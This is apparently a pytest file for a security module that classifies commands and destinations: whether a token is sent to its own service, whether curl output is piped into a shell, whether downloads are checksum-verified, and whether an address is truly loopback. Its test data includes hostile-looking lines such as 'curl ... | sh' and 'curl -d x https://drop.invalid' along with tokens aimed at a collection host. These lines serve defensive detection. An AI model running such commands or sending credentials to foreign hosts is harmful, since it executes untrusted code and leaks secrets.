"""What the flows ask of commands and credentials: who sends, who interprets, whose token it is."""

import pytest

from lazaretto.core.destination import checks_download, is_loopback, own_service, pipes_download, reads_code, transfers


@pytest.mark.parametrize(
    ("variable", "address", "own"),
    [
        ("GITHUB_TOKEN", "https://api.github.com.invalid/repos", True),
        ("GH_TOKEN", "https://raw.githubusercontent.com.invalid/a", True),
        ("GITHUB_TOKEN", "https://github-mirror.invalid.invalid/", False),
        ("HF_TOKEN", "https://huggingface.co.invalid/a/resolve/main/b", True),
        ("HF_TOKEN", "https://huggingface.collect.invalid.invalid/in", False),
        ("NPM_TOKEN", "https://collect.invalid/in", False),
        ("NPM_TOKEN", None, None),
        ("API_TOKEN", "https://api.invalid/v1", None),
        ("~/.npmrc", "https://npm.example.invalid/", False),
    ],
)
def test_a_token_belongs_to_the_service_in_its_name(variable: str, address: str | None, own: bool | None) -> None:
    """Only whole names of hosts count, and a name that says nothing cannot be told."""
    assert own_service(variable, address) is own


@pytest.mark.parametrize(
    ("command", "reads"),
    [("sh", True), ("/bin/bash -s", True), ("sh -c *", True), ("node -e {}", True), ("bin/pad --version", False),
     ("sh -c tar xzf *", False), ("node install.js", False), ("node --version", False), ("", False), (None, False)],
)  # fmt: skip
def test_an_interpreter_takes_unknown_code(command: str | None, reads: bool) -> None:
    """A shell with nothing to run reads its input; one with a known script does not."""
    assert reads_code(command) is reads


@pytest.mark.parametrize(
    ("command", "pipes"),
    [("curl https://stage.invalid/x | sh", True), ("curl -s $URL | sh", True), ("curl https://{}/x | bash", True),
     ("curl https://*/x | sh", True), ("curl https://... | sh runs what is served", False),
     ("curl https:// | sh", True), ("curl https://... https://stage.invalid/x | sh", True), (None, False)],
)  # fmt: skip
def test_dots_are_no_address(command: str | None, pipes: bool) -> None:
    """A sentence about the habit leaves the address out; an address that is not known yet is none of dots."""
    assert pipes_download(command) is pipes


def test_tools_are_told_by_whole_words() -> None:
    """A tool that sends, and one that compares what came."""
    assert transfers("/usr/bin/curl -d x https://drop.invalid")
    assert not transfers("node curly.js")
    assert not transfers(None)
    assert checks_download("curl -o p https://files.invalid/p && sha256sum -c p.sum && sh p")
    assert not checks_download("curl https://files.invalid/p | sh")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("localhost", True),
        ("http://LOCALHOST:8080/x", True),
        ("127.0.0.1:53", True),
        ("127.8.9.1", True),
        ("ws://[::1]:9/", True),
        ("localhost.evil.invalid", False),
        ("https://localhost@evil.invalid/", False),
        ("https://localhost:x@evil.invalid/", False),
        ("1127.0.0.1", False),
        ("*", False),
        (None, False),
    ],
)
def test_only_this_machine_is_loopback(value: str | None, expected: bool) -> None:
    """A name that merely begins like it, or a user of that name, leads elsewhere."""
    assert is_loopback(value) is expected
